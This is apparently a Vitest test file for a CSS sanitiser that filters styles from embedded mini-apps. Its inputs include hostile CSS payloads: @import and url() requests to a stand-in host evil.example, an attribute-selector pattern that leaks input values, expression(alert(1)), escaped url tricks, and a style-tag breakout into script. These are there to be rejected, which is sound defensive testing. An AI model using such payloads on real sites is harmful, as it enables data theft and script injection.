import { describe, expect, it } from 'vitest';
import { safeCss } from '../../../infrastructure/mini-apps/host/safe-css.ts';

describe('the styles of an application', () => {
  it('are kept where they say how its own parts look [STY-1, STY-2]', () => {
    for (const sheet of [
      '.a{color:red;padding:calc(1px + var(--s-2))}',
      '@media (width>600px){.c{display:grid;grid-template-columns:repeat(auto-fit,minmax(10rem,1fr))}}',
      '@container (min-width:30rem){.c{gap:1rem}}',
      '@keyframes k{from{opacity:0}to{opacity:1}}',
      '[data-theme="light"] .a:hover{background:linear-gradient(red,blue)}',
      '.a::before{content:"x"}',
    ])
      expect(safeCss(sheet)).toBe(sheet);
  });

  // SEC-12: what asks another host, reads the page or stands over it
  it.each([
    ['@import "https://evil.example/x.css";'],
    ['@import url(//evil.example/x.css) screen;'],
    ['@font-face{font-family:x;src:url(https://evil.example/f.woff2)}'],
    ['@namespace url(http://www.w3.org/2000/svg);'],
    ['@property --p{syntax:"*";inherits:true}'],
    ['@layer a{.w{color:red}}'],
    ['@supports (display:grid){.q{color:red}}'],
    ['@page{size:a4}'],
  ])('leave out %s [STY-1]', (sheet) => {
    expect(safeCss(sheet)).toBe('');
  });

  it.each([
    'behavior:url(x.htc)',
    '-moz-binding:url(x.xml)',
    'width:expression(alert(1))',
    'width:env(x)',
    'content:attr(data-x)',
    'all:unset',
    'cursor:none',
    'pointer-events:none',
    'user-select:none',
    'anchor-name:--a',
    'view-transition-name:x',
    'filter:url(#x)',
    'clip-path:url(#x)',
    'mask-image:element(#x)',
  ])('may not set %s [STY-2]', (declaration) => {
    expect(safeCss(`.a{${declaration}}`)).toBe('');
  });

  it.each([
    'background:url(https://evil.example/x)',
    'background:url("//evil.example/x")',
    String.raw`background:u\72l(https://evil.example/x)`,
    'background-image:image-set("https://evil.example/x" 1x)',
    'background:src("https://evil.example/x")',
    'color:var(--c,url(https://evil.example/x))',
    '--x:url(https://evil.example/x)',
    'list-style:url(https://evil.example/x)',
    'background:url(/web-api/session)',
    'background:url(data:image/svg+xml;base64,PHN2Zz4=)',
  ])('ask for nothing by %s [STY-3]', (declaration) => {
    expect(safeCss(`input[value^="a"]{${declaration}}`)).toBe('');
  });

  it('may hold a picture in themselves [STY-3]', () => {
    expect(safeCss('.a{background:url(data:image/png;base64,AAAA)}')).toBe(
      '.a{background:url(data:image/png;base64,AAAA)}',
    );
  });

  it.each([
    ':host{color:red}',
    ':host(.x){color:red}',
    ':host-context(body){color:red}',
    '::slotted(*){color:red}',
    '::part(x){color:red}',
    ':root{color:red}',
    ':has(input){color:red}',
    ':target{color:red}',
    ':visited{color:red}',
    '#id{color:red}',
    '.a{.b{color:red}}',
    String.raw`:h\6fst{color:red}`,
  ])('say nothing of %s [STY-4]', (sheet) => {
    expect(safeCss(sheet)).toBe('');
  });

  it.each(['position:fixed', 'position:sticky', 'position:FIXED!important', 'position:/**/fixed', 'position:var(--p)'])(
    'fix nothing by %s [STY-5]',
    (declaration) => {
      expect(safeCss(`.a{${declaration};inset:0}`)).toBe('.a{inset:0}');
    },
  );

  it('are left out whole where they are longer than any sheet, and read where they are broken [STY-1]', () => {
    expect(safeCss(`.a{color:red}${' '.repeat(200_001)}`)).toBe('');
    expect(safeCss('.x{color:red')).toBe('.x{color:red}');
    expect(safeCss('.a{color:red}}</style><script>1</script>')).not.toMatch(/<|script/);
    for (const odd of ['/*', '}}}}', '@', '@media', '@media{', '.a{', '{', '\0', '<!--.a{color:red}-->'])
      expect(() => safeCss(odd)).not.toThrow();
  });
});
